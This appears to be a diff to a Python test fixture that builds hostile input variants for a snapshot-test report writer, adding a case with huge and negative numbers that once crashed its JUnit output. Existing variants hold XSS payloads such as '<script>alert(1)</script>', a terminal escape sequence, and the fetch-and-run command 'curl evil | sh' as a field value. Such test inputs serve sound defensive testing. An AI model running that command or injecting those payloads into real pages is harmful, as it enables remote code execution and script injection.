@@ -61,6 +61,9 @@ variant("control-characters", name="a\u001b]0;title\u0007", message="line\r\nerr
 variant("markup", name="<script>alert(1)</script>", message="</pre><img src=x onerror=alert(1)>",
         acceptCommand="curl evil | sh", reference="__Snapshots__/<b>.png")
 variant("missing-picture", diff="pics/gone.png")
+# Found by the report target: a time beyond Int crashed the JUnit writer.
+variant("huge-numbers", milliseconds=1e300, difference=dict(failed["results"][0]["difference"], densestWindowShare=1e300,
+                                                            differingPixels=-9223372036854775808))
 run = json.loads(json.dumps(failed))
 orphan = {"id": "~orphan:__Snapshots__/old.png", "name": "old", "variant": "", "status": "orphaned",
           "reference": "__Snapshots__/old.png", "matchedByHash": False, "milliseconds": 0}
